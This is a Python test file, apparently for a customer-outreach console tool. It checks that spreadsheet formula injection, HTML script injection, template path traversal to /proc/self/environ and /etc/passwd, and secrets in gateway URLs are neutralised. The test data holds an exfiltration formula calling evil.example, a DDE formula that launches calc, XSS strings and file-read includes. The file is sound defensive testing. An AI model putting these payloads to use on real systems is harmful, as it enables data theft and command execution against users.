"""Customer data written by the public reaching what people open: spreadsheet cells in the
outbox lists and the quarantine, the HTML part of an email, a phone number that is not
one (issue 12, first part). Through the console script, on real files."""

from __future__ import annotations

import csv
import json
import subprocess
from pathlib import Path

import pytest
from jinja2 import TemplateNotFound

from tests.inprocess import huitou

FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"Click me")'
SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>"
PLAYBOOK = """version: 1
name: t
timezone: Asia/Shanghai
locale: zh-CN
rules:
  - id: call
    intent: service
    segment: order_count >= 1
    when: {immediate: true}
    channel: phone
    template: phone/call.j2
    lawful_basis: contract
  - id: mail
    intent: care
    segment: order_count >= 1
    when: {immediate: true}
    channel: email
    template: email/hi.j2
"""
TEMPLATES = {
    "phone/call.j2": "客户：{{ customer.name }}\n话术：问候。",
    "email/hi.j2": "{% block subject %}您好{% endblock %}{% block text %}{{ customer.name }}，您好。{% endblock %}"
    '{% block html %}<p>{{ customer.name }}，您好。<a href="{{ unsubscribe_url }}">退订</a></p>{% endblock %}',
}
CONFIG = """version: 1
name: t
default_locale: zh-CN
timezone: Asia/Shanghai
data: {orders: {path: orders.csv}, customers: {path: customers.csv}}
channels:
  phone: {outbox: out/calls}
  email: {from: 店 <care@shop.example.cn>, unsubscribe_url: "https://shop.example.cn/u?a=1", outbox: out/email}
"""


def shop(root: Path) -> Path:
    (root / "rules").mkdir(parents=True)
    (root / "rules" / "t.yaml").write_text(PLAYBOOK, encoding="utf-8")
    for name, text in TEMPLATES.items():
        (root / "templates" / "zh-CN" / name).parent.mkdir(parents=True, exist_ok=True)
        (root / "templates" / "zh-CN" / name).write_text(text, encoding="utf-8")
    (root / "huitou.yaml").write_text(CONFIG, encoding="utf-8")
    with open(root / "customers.csv", "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["customer_id", "name", "phone", "email", "consent_email"])
        writer.writerow(["a", FORMULA, "13800000001", "a@mail.example.cn", "true"])
        writer.writerow(["b", SCRIPT, "+86 138-0000-0002", "b@mail.example.cn", "true"])
        writer.writerow(["c", "王\x00芳", "=cmd|' /C calc'!A0", "c@mail.example.cn", "true"])
        writer.writerow(["=1+2", "x", "13800000004", "", "false"])
    (root / "orders.csv").write_text(
        "order_id,customer_id,ordered_at,amount\no1,a,2026-11-01 10:00:00,10\no2,b,2026-11-01 10:00:00,10\n"
        "o3,c,2026-11-01 10:00:00,10\no4,=1+2,2026-11-01 10:00:00,-5\n",
        encoding="utf-8",
    )
    return root


def run(root: Path, *args: str) -> subprocess.CompletedProcess:
    done = huitou(*args, cwd=root)
    assert done.returncode in (0, 1), done.stderr
    return done


def test_public_text_is_harmless_in_spreadsheets_html_and_call_lists(tmp_path: Path) -> None:
    root = shop(tmp_path / "shop")
    planned = run(root, "plan", "--as-of", "2026-11-02", "--horizon", "1d", "--out", "plan.jsonl")
    rows = {(r["customer_id"], r["rule_id"]): r for r in map(json.loads, (root / "plan.jsonl").read_text(encoding="utf-8").splitlines())}
    # a phone number that is not one is set aside at load, said (masked), and never a call-list row
    assert (rows[("c", "call")]["status"], rows[("c", "call")]["reason"]) == ("suppressed", "no_contact")
    assert "phone: 1 values are not usable and set aside: 1 not a phone number" in planned.stderr, planned.stderr
    assert rows[("b", "call")]["status"] == "send"
    # HTML escapes the public's text; the text part keeps it as written
    html, text = rows[("b", "mail")]["content"]["html"], rows[("b", "mail")]["content"]["body"]
    assert "<script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt;" in html
    assert "https://shop.example.cn/u?a=1&amp;c=b" in html and text.startswith(SCRIPT)
    sent = run(root, "send", "plan.jsonl", "--live", "--now", "2026-11-02T12:00", "--until", "2026-11-02")
    assert "2 sent" in sent.stdout, sent.stdout
    with open(next((root / "out" / "calls").glob("*.csv")), encoding="utf-8-sig", newline="") as handle:
        calls = {r["customer_id"]: r for r in csv.DictReader(handle)}
    assert set(calls) == {"a", "b"}
    assert calls["a"]["name"] == "'" + FORMULA and calls["a"]["script"].startswith("客户：=HYPERLINK")
    assert calls["b"]["phone"] == "+8613800000002"  # normalised at load: whole, not guarded (a vendor's import reads it)
    # the quarantine is opened in spreadsheets too
    with open(root / ".huitou" / "quarantine" / "orders.csv", encoding="utf-8", newline="") as handle:
        (rejected,) = list(csv.DictReader(handle))
    assert rejected["customer_id"] == "'=1+2" and rejected["reason"] == "negative_amount"


def test_templates_read_only_files_inside_templates(tmp_path: Path) -> None:
    """Links out of templates/, names chosen when rendering, '..' and self-inclusion are
    validate errors, and the planner's loader does not follow them either."""
    root = shop(tmp_path / "shop")
    sms = root / "templates" / "zh-CN" / "phone"
    (sms / "environ.j2").symlink_to("/proc/self/environ")
    (root / "templates" / "zh-CN" / "updir").symlink_to(root)
    cases = {
        "leak.j2": "{% include 'phone/environ.j2' %}",
        "config.j2": "{% include 'updir/huitou.yaml' %}",
        "chosen.j2": "{% include customer.name %}",
        "parent.j2": "{% include '../../huitou.yaml' %}",
        "absolute.j2": "{% include '/etc/passwd' %}",
        "self.j2": "{% include 'phone/self.j2' %}",
    }
    for name, text in cases.items():
        (sms / name).write_text(text, encoding="utf-8")
    done = huitou("validate", "--format", "json", cwd=root)
    found = {(Path(d["file"]).name, d["code"]) for d in json.loads(done.stdout)}
    assert done.returncode == 1
    assert {(name, "HT406") for name in cases} <= found, sorted(found)
    assert ("environ.j2", "HT406") in found
    # the loader itself refuses them: a rule using the leaking template renders nothing of the file
    from huitou.templates import TemplateLoader, environment, template_file

    env = environment(TemplateLoader([str(root / "templates" / "zh-CN")]))
    for name in ("phone/environ.j2", "updir/huitou.yaml", "../huitou.yaml", "/etc/passwd"):
        assert template_file(root / "templates" / "zh-CN", name) is None
    with pytest.raises(TemplateNotFound):
        env.get_template("phone/leak.j2").render()


def test_credentials_in_a_gateway_url_are_refused_and_never_shown(tmp_path: Path) -> None:
    from huitou.delivery.channels import DeliveryError

    root = shop(tmp_path / "shop")
    for param in ("client_secret", "auth_token", "appkey", "access_token", "sign", "api_key"):
        config = CONFIG.replace("  phone: {outbox: out/calls}", f'  phone: {{webhook: {{url: "https://gw.example/send?{param}=s3cr3t&to=1"}}}}')
        (root / "huitou.yaml").write_text(config, encoding="utf-8")
        done = huitou("validate", "huitou.yaml", "--format", "json", cwd=root)
        assert done.returncode == 1 and [d["code"] for d in json.loads(done.stdout)] == ["HT504"], (param, done.stdout)
        assert "s3cr3t" not in done.stdout
    error = DeliveryError(
        "no answer from https://gw.example/send?appkey=s3cr3t&sign=ab within 5s; body: see https://u:pw@gw.example/x?t=1", transient=True
    )
    assert "s3cr3t" not in str(error) and "pw@" not in str(error) and "appkey=***" in str(error)


def test_dry_runs_mask_every_contact_a_template_prints(tmp_path: Path) -> None:
    root = shop(tmp_path / "shop")
    (root / "templates" / "zh-CN" / "phone" / "call.j2").write_text(
        "客户：{{ customer.phone }}，邮箱 {{ customer.email }}，订单日 2026-11-01", encoding="utf-8"
    )
    masked = run(root, "plan", "--as-of", "2026-11-02", "--horizon", "1d", "--format", "json", "--samples", "10")
    text = json.dumps(json.loads(masked.stdout)["samples"], ensure_ascii=False)
    assert "13800000001" not in text and "a@mail.example.cn" not in text and "138****0001" in text and "a***@mail.example.cn" in text
    assert "2026-11-01" in text  # a date is not a phone number
    shown = run(root, "plan", "--as-of", "2026-11-02", "--horizon", "1d", "--format", "json", "--samples", "10", "--show-pii")
    assert "13800000001" in shown.stdout
    run(root, "plan", "--as-of", "2026-11-02", "--horizon", "1d", "--out", "plan.jsonl")
    dry = run(root, "send", "plan.jsonl", "--now", "2026-11-02T12:00", "--until", "2026-11-02")
    assert "13800000001" not in dry.stdout and "a@mail.example.cn" not in dry.stdout and "would send" in dry.stdout
